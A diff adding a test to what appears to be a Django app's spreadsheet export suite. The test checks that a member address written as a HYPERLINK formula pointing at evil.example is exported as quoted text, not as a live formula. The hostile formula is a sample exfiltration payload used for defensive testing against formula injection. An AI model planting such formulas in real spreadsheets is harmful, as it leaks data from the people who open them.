@@ -64,3 +64,14 @@ def test_big_export_runs_as_a_job_with_the_same_rows(
     job = jobs.job_run(str(job.pk))
     assert job.status == "done", job.message
     assert _names(job.result_file.read()) == ["Nguyễn Thị Hoa", "Trần Văn Bình"]  # Hoa > Bình
+
+
+def test_an_address_written_as_a_formula_is_exported_as_text(client, tree, admit, registrar_a):
+    hostile = '=HYPERLINK("http://evil.example/?"&F2, "Bấm vào đây")'
+    admit(address=hostile)
+    client.force_login(registrar_a)
+    content = b"".join(client.get(reverse("members:export")).streaming_content)
+    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
+    address = next(c for c in cells if c.value == hostile)
+    assert address.data_type == "s" and address.quotePrefix
+    assert not any(c.data_type == "f" for c in cells)
